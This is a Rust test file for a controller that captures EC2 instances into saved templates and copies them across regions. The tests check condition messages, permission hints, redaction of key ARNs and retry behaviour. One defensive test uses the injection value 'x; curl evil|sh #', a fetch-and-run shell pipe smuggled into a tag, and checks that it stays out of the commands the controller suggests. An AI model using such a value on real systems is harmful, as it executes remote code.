//! What people read: reasons and messages that say the same, hints that help, and nothing of others in a command. Tables.
use std::sync::Arc;

use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use saved_template_api::{
    ConditionType, Reason, SavedTemplateSpec,
    condition::find,
    names,
    spec::RemovedRegionPolicy,
    status::{Announced, CaptureReason, RegionState},
};

use super::*;
use crate::{
    ec2_error::{Ec2Error, IMPLAUSIBLE_RECORD, UNCLEAR_STATE},
    outcomes::apply,
    sample::{
        at, copy, images, made, outcome, owned, plain, planned, replicated, running, saved, spec, stopped_at,
        stopping, subject, tagged, world,
    },
    step::{Outcome, STOP, Step, TAG},
    world::{ImageState, World},
};

fn decided(spec: &SavedTemplateSpec, status: &SavedTemplateStatus, world: &World, seconds: i64) -> Decision {
    decide(subject(spec, status), world, at(seconds)).into_decision().unwrap()
}

fn told(decision: &Decision, kind: ConditionType) -> (String, String, String) {
    let found = find(&decision.status.conditions, kind).cloned();
    found.map(|one| (one.status, one.reason, one.message)).unwrap_or_default()
}

fn answered(step: &str, answer: &str) -> Announced {
    Announced {
        number: 1,
        step: step.into(),
        time: Time(at(10)),
        request: String::new(),
        region: "us-west-2".parse().unwrap(),
        outcome: Some(outcome(answer)),
    }
}

/// EC2's answer, and the reason of whoever must do something about it; none where it passes.
const ANSWERS: [(&str, &str, Option<Reason>); 14] = [
    ("UnauthorizedOperation", "no", Some(Reason::AccessDenied)),
    ("AccessDenied", "no", Some(Reason::AccessDenied)),
    ("TagLimitExceeded", "50 tags", Some(Reason::TooManyTags)),
    ("OperationNotPermitted", "modify its 'disableApiStop' attribute", Some(Reason::StopProtected)),
    ("UnsupportedOperation", "no", Some(Reason::InstanceNotSupported)),
    ("UnsupportedHibernationConfiguration", "no", Some(Reason::InstanceNotSupported)),
    ("InvalidParameterValue", "no", Some(Reason::RequestRefused)),
    ("OperationNotPermitted", "no", Some(Reason::RequestRefused)),
    ("RequestLimitExceeded", "later", None),
    ("IncorrectInstanceState", "later", None),
    ("RequestTimeout", "lost", None),
    ("InternalError", "lost", None),
    ("RequestExpired", "held back", None),
    ("InvalidInstanceID.NotFound", "none", None),
];

#[test]
fn a_refusal_has_the_reason_of_what_it_says_whichever_call_it_answers() {
    for (code, message, reason) in ANSWERS {
        let what = format!("{code}: {message}");
        assert_eq!(Ec2Error::new("StopInstances", code, message).reason(), reason, "{what}");
        let mut stop = stopping();
        stop.announced = vec![answered(STOP, &what)];
        let mut tag = planned();
        tag.announced = vec![answered(TAG, &what)];
        for (status, machine, now) in [(stop, tagged(running()), 61), (tag, running(), 40)] {
            let decision = decided(&plain(), &status, &world(at(now), vec![machine], vec![], vec![]), now);
            let capture = decision.status.capture.unwrap();
            let ended = capture.reason;
            let message = capture.message.unwrap_or_default();
            if let Some(reason) = reason {
                assert_eq!(ended, Some(CaptureReason::of(reason)), "{what}");
                assert!(message.contains(code), "{message}");
            } else {
                let known = ended.and_then(CaptureReason::reason);
                let blames = known.is_some_and(|known| {
                    known != Reason::InstanceBusy
                        && ConditionType::Validated.reasons_otherwise().contains(&known)
                });
                assert!(!blames, "{what}: {ended:?}");
                let is_busy = ended == Some(CaptureReason::InstanceBusy);
                assert!(!is_busy || code == "IncorrectInstanceState", "{what}: {ended:?}");
            }
            assert_eq!(message.contains("allow ec2:"), reason == Some(Reason::AccessDenied), "{message}");
        }
    }
}

#[test]
fn only_a_stop_of_minutes_is_said_to_have_cut_the_guest_off_however_long_the_machine_was_down() {
    for (stopped, restored, said) in
        [(40, 70, false), (40, 2000, false), (251, 300, true), (249, 300, false), (251, 2000, true)]
    {
        let mut status = saved();
        let capture = status.capture.as_mut().unwrap();
        capture.stop_requested_time = Some(Time(at(10)));
        capture.source_stopped_time = Some(Time(at(stopped)));
        capture.source_restored_time = Some(Time(at(restored)));
        capture.downtime_seconds = Some(restored - 10);
        let seen = world(at(2500), vec![running()], vec![made()], vec![]);
        let (_, reason, text) = told(&decided(&plain(), &status, &seen, 2500), ConditionType::SourceRestored);
        assert_eq!(reason, "Restored");
        assert!(text.contains(&format!("after {} s", restored - 10)), "{text}");
        assert_eq!(text.contains("may have cut the guest off"), said, "{stopped}: {text}");
    }
}

#[test]
fn a_start_that_fails_is_told_with_what_helps_and_advises_permissions_only_where_they_lack() {
    for (code, message, state, permission, says) in [
        ("UnauthorizedOperation", "no", None, true, "allow ec2:StartInstances"),
        ("AccessDenied", "no", None, true, "allow ec2:StartInstances"),
        ("InvalidKMSKeyState", "disabled", None, true, "kms:CreateGrant"),
        ("SomethingNew", "no", Some("Client.InvalidKMSKey.InvalidState"), true, "kms:CreateGrant"),
        ("AuthFailure", "no", None, false, "credentials"),
        ("", "connection reset", None, false, "EC2 does not answer"),
        ("InternalError", "an error", None, false, "EC2 does not answer"),
        ("RequestLimitExceeded", "later", None, false, "slow down"),
        ("IncorrectInstanceState", "later", None, false, "not ready"),
        ("InvalidParameterValue", "no", None, false, "remove the cause"),
        (UNCLEAR_STATE, "start it by hand", None, false, "start it by hand"),
        (IMPLAUSIBLE_RECORD, "start it by hand", None, false, "start it by hand"),
    ] {
        let mut machine = tagged(stopped_at(Some(at(20))));
        machine.state_reason = state.map(str::to_owned).or(machine.state_reason);
        let mut seen = world(at(900), vec![machine], vec![], vec![]);
        seen.start_refused = Some(Ec2Error::new("StartInstances", code, message));
        let mut status = crate::sample::imaging();
        status.capture.as_mut().unwrap().snapshots_started_time = Some(Time(at(45)));
        let (_, reason, text) = told(&decided(&plain(), &status, &seen, 900), ConditionType::SourceRestored);
        assert_eq!(reason, "StartFailed", "{code}");
        assert!(text.contains(says), "{code}: {text}");
        assert_eq!(text.contains("allow ec2:") || text.contains("kms:"), permission, "{code}: {text}");
        let is_tried = ![UNCLEAR_STATE, IMPLAUSIBLE_RECORD].contains(&code);
        assert_eq!(text.contains("tried again for ever"), is_tried, "{text}");
    }
}

#[test]
fn what_is_suspended_neither_moves_nor_is_stuck() {
    let suspend = |spec: SavedTemplateSpec| SavedTemplateSpec { suspend: true, ..spec };
    let drifted = spec(
        r#"{"source": {"region": "us-west-2", "instanceName": "earthquake-analysis"}, "regions": [{"name": "us-east-2"}],
            "description": "another"}"#,
    );
    let there = images(at(900), vec![made()], vec![copy()]);
    for (what, spec, status, seen) in [
        ("a capture", plain(), SavedTemplateStatus::default(), world(at(0), vec![running()], vec![], vec![])),
        ("a copy", plain(), saved(), images(at(900), vec![made()], vec![])),
        ("a change", drifted, replicated(), there),
    ] {
        let decision = decided(&suspend(spec), &status, &seen, 900);
        assert_eq!(decision.step(), None, "{what}");
        let (ready, reason, message) = told(&decision, ConditionType::Ready);
        assert_eq!((ready.as_str(), reason.as_str()), ("False", "Suspended"), "{what}: {message}");
        for kind in [ConditionType::Stalled, ConditionType::Reconciling] {
            assert!(find(&decision.status.conditions, kind).is_none(), "{what}: {kind:?}");
        }
    }
}

#[test]
fn a_template_is_ready_while_a_region_that_is_no_longer_wanted_is_emptied_and_says_so() {
    let fewer = |policy| SavedTemplateSpec { regions: vec![], removed_region_policy: policy, ..plain() };
    for policy in [RemovedRegionPolicy::Delete, RemovedRegionPolicy::Retain] {
        let seen = images(at(900), vec![made()], vec![copy()]);
        let decision = decided(&fewer(policy), &replicated(), &seen, 900);
        assert!(decision.step().is_some());
        let (ready, reason, message) = told(&decision, ConditionType::Ready);
        assert_eq!((ready.as_str(), reason.as_str()), ("True", "Saved"), "{message}");
        assert!(message.contains("us-east-2 is no longer in spec.regions"), "{message}");
        // What was kept or taken away is no drift.
        let next = decided(
            &fewer(policy),
            &SavedTemplateStatus { announced: vec![], ..decision.status },
            &seen,
            901,
        );
        assert!(next.step().is_some());
        assert!(next.events.iter().all(|event| event.reason != "DriftCorrected"), "{:?}", next.events);
        // Where something else is missing, that is what is told, and the region is emptied all the same.
        let mut lost = replicated();
        (lost.regions[0].state, lost.capture.as_mut().unwrap().restart_record) = (RegionState::Missing, None);
        let seen = images(at(900), vec![], vec![copy()]);
        let decision = decided(&fewer(policy), &lost, &seen, 900);
        assert!(decision.step().is_some(), "{:?}", told(&decision, ConditionType::Ready));
        assert_eq!(told(&decision, ConditionType::Ready).1, "ImageMissing");
    }
}

#[test]
fn every_region_that_is_not_enabled_is_named_with_its_field() {
    let three = spec(
        r#"{"source": {"region": "us-west-2", "instanceName": "earthquake-analysis"},
            "regions": [{"name": "af-south-1"}, {"name": "us-east-2"}, {"name": "eu-wst-1"}]}"#,
    );
    let seen = world(at(0), vec![running()], vec![], vec![]);
    let (_, reason, message) =
        told(&decided(&three, &SavedTemplateStatus::default(), &seen, 0), ConditionType::Validated);
    assert_eq!(reason, "RegionNotEnabled");
    for part in ["spec.regions[0].name: af-south-1", "spec.regions[2].name: eu-wst-1"] {
        assert!(message.contains(part), "{message}");
    }
    assert!(!message.contains("us-east-2"), "{message}");
}

#[test]
fn a_check_that_fails_for_another_reason_is_pointed_at_and_what_passes_hides_nothing() {
    let mut seen = world(at(0), vec![running()], vec![], vec![]);
    let probe = seen.probe.as_mut().unwrap();
    probe.pending_images = Ok(vec![crate::sample::image("x", ImageState::Pending)]);
    probe.shutdown_terminates = Err(Ec2Error::new("DescribeInstanceAttribute", "InternalError", "no"));
    probe.create_image = Err(Ec2Error::new("CreateImage", "UnauthorizedOperation", "no"));
    let decision = decided(&plain(), &SavedTemplateStatus::default(), &seen, 0);
    let (_, reason, message) = told(&decision, ConditionType::Validated);
    assert_eq!(reason, "AccessDenied");
    assert!(message.contains("allow ec2:CreateImage"), "{message}");
    assert!(message.ends_with("status.preflight has more: PendingImages, ShutdownBehavior"), "{message}");
    assert_eq!(told(&decision, ConditionType::Stalled).0, "True");
}

#[test]
fn what_others_wrote_into_a_tag_is_in_no_command_unless_it_can_be_nothing_but_a_name() {
    let evil = "x; curl evil|sh #";
    for (value, shown) in [(evil, false), ("0a1b2c3d-9999-2222-3333-444455556666", true)] {
        let mut held = made();
        held.tags.insert(names::tag::HOLDER.into(), value.into());
        let seen = world(at(0), vec![running()], vec![held], vec![]);
        let drifted = SavedTemplateSpec { description: Some("another".into()), ..plain() };
        let (_, _, message) =
            told(&decided(&drifted, &SavedTemplateStatus::default(), &seen, 400), ConditionType::Ready);
        assert!(message.contains("--take-over"), "{message}");
        assert_eq!(message.contains(&format!("--take-over={value}")), shown, "{message}");
        assert!(message.contains(&format!("{value:?}")), "{message}");
    }
    for (cluster, shown) in [(evil, false), ("other", true)] {
        let mut foreign = owned(crate::sample::image("x", ImageState::Available));
        foreign.tags.insert(names::tag::CLUSTER.into(), cluster.into());
        let owner = names::Owner { cluster, ..crate::sample::OWNER };
        foreign.name = owner.image_name(owner.name, 1, 1);
        let mut seen = world(at(0), vec![running()], vec![], vec![]);
        seen.probe.as_mut().unwrap().namesakes = Ok(vec![foreign]);
        let (_, reason, message) =
            told(&decided(&plain(), &SavedTemplateStatus::default(), &seen, 0), ConditionType::Validated);
        assert_eq!(reason, "RevisionTaken");
        assert_eq!(message.contains(&format!("--adopt-from={cluster}")), shown, "{message}");
        assert!(message.contains(&format!("{cluster:?}")), "{message}");
    }
}

#[test]
fn a_key_is_named_in_no_message() {
    let arn = "arn:aws:kms:us-west-2:123456789012:key/1234abcd";
    let refusal =
        Ec2Error::new("StartInstances", "UnauthorizedOperation", format!("no kms:CreateGrant on {arn}"));
    assert!(refusal.to_string().ends_with("no kms:CreateGrant on a customer key"), "{refusal}");
    let mut seen = world(at(0), vec![running()], vec![], vec![]);
    let volume = crate::world::Volume {
        id: "vol-00000000000000001".parse().unwrap(),
        kind: "gp3".into(),
        key: Some(arn.into()),
        managed: false,
        multi_attach: false,
    };
    seen.probe.as_mut().unwrap().volumes = Ok(vec![volume]);
    let decision = decided(&plain(), &SavedTemplateStatus::default(), &seen, 0);
    let rows = &decision.status.preflight;
    let keys = rows.iter().find(|row| row.check == "VolumeKeys").unwrap().message.clone().unwrap();
    assert!(keys.contains("vol-00000000000000001") && !keys.contains("arn:"), "{keys}");
}

#[test]
fn copies_that_are_denied_wait_for_somebody_with_the_permission_and_are_tried_again_slowly() {
    let asked = decided(&plain(), &saved(), &images(at(400), vec![made()], vec![]), 400);
    let step = asked.step().cloned().unwrap();
    let denied = Outcome::Refused(Ec2Error::new("CopyImage", "UnauthorizedOperation", "no"));
    let event = events::refused(&step, &denied, 1).unwrap();
    assert!(event.warning && event.reason == "CopyFailed", "{event:?}");
    assert!(
        event.message.contains("allow ec2:CopyImage") && event.message.contains("us-east-2"),
        "{event:?}"
    );
    let status = apply(&asked.status, &step, &denied, at(401)).unwrap();
    assert_eq!(status.regions[1].next_attempt_time, Some(Time(at(401 + 300))));
    let decision = decided(&plain(), &status, &images(at(410), vec![made()], vec![]), 410);
    assert_eq!(decision.step(), None);
    let (stalled, _, message) = told(&decision, ConditionType::Stalled);
    assert_eq!(stalled, "True");
    assert!(message.contains("allow ec2:CopyImage") && message.contains("us-east-2"), "{message}");
    let again = decided(&plain(), &status, &images(at(701), vec![made()], vec![]), 701);
    assert!(matches!(again.step(), Some(Step::CopyImage { .. })));
}

#[test]
fn a_region_that_is_closed_to_us_waits_for_somebody_and_one_that_is_only_silent_does_not() {
    for (code, stalls) in
        [("UnauthorizedOperation", true), (crate::ec2_error::NOT_ENABLED, true), ("InternalError", false)]
    {
        let mut seen = images(at(400), vec![made()], vec![]);
        let refusal = Ec2Error::new("DescribeImages", code, "no");
        seen.abroad.insert("us-east-2".parse().unwrap(), Err(refusal));
        let decision = decided(&plain(), &saved(), &seen, 400);
        assert_eq!(told(&decision, ConditionType::Stalled).0 == "True", stalls, "{code}");
        assert_eq!(told(&decision, ConditionType::Reconciling).0 == "True", !stalls, "{code}");
    }
}

#[test]
fn a_change_of_tags_that_is_denied_waits_for_somebody_with_the_permission_however_long_ec2_speaks() {
    let drifted = SavedTemplateSpec { description: Some("another".into()), ..plain() };
    let there = || crate::world::Image { description: "another".into(), ..copy() };
    let seen = |began| images(at(began), vec![made()], vec![there()]);
    let asked = decided(&drifted, &replicated(), &seen(900), 900);
    let refusal = Ec2Error::new("ModifyImageAttribute", "UnauthorizedOperation", "no ".repeat(500));
    let status =
        apply(&asked.status, &asked.step().cloned().unwrap(), &Outcome::Refused(refusal), at(901)).unwrap();
    let decision = decided(&drifted, &status, &seen(910), 910);
    let (stalled, _, message) = told(&decision, ConditionType::Stalled);
    assert_eq!((stalled.as_str(), decision.step()), ("True", None), "{message}");
    assert!(message.contains("allow ec2:ModifyImageAttribute"), "{message}");
}

#[test]
fn of_an_image_that_is_gone_no_more_is_said_than_is_known() {
    let mut seen = images(at(900), vec![], vec![copy()]);
    let absence = crate::world::Absence { since: at(500), reads: 9 };
    Arc::make_mut(seen.home.as_mut().unwrap()).absences.insert(made().id.to_string(), absence);
    let spec = SavedTemplateSpec { deletion_policy: DeletionPolicy::Delete, ..plain() };
    for deleting in [false, true] {
        let status = replicated();
        let subject = Subject { deleting, ..subject(&spec, &status) };
        let decision = decide(subject, &seen, at(900)).into_decision().unwrap();
        let text = decision.status.regions[0].message.clone().unwrap_or_default();
        assert!(text.contains("EC2 does not show it any more") && !text.contains("somebody"), "{text:?}");
    }
}

#[test]
fn a_deregistration_or_a_snapshot_that_is_refused_is_blocked_by_what_ec2_says() {
    let region = || "us-east-2".parse().unwrap();
    let image = Step::Deregister { region: region(), image: copy().id };
    let shot = Step::DeleteSnapshot { region: region(), snapshot: crate::sample::copied_snapshot(1).id };
    for (step, code, message, reason) in [
        (&image, "OperationNotPermitted", "deregistration protection is enabled", "DeregistrationProtected"),
        (&image, "InvalidParameterValue", "no", "RequestRefused"),
        (&image, "UnauthorizedOperation", "no", "AccessDenied"),
        (&shot, "OperationNotPermitted", "the snapshot is locked", "SnapshotLocked"),
        (&shot, "InvalidParameterValue", "no", "RequestRefused"),
    ] {
        let outcome = Outcome::Refused(Ec2Error::new("X", code, message));
        let status = apply(&replicated(), step, &outcome, at(900)).unwrap();
        assert_eq!(status.regions[1].reason.map(<&str>::from), Some(reason), "{code}: {message}");
        let spec = SavedTemplateSpec { deletion_policy: DeletionPolicy::Delete, ..plain() };
        let subject = Subject { deleting: true, ..subject(&spec, &status) };
        let decision =
            decide(subject, &images(at(901), vec![made()], vec![copy()]), at(901)).into_decision().unwrap();
        assert_eq!(told(&decision, ConditionType::DeletionBlocked).1, reason, "{code}: {message}");
    }
}
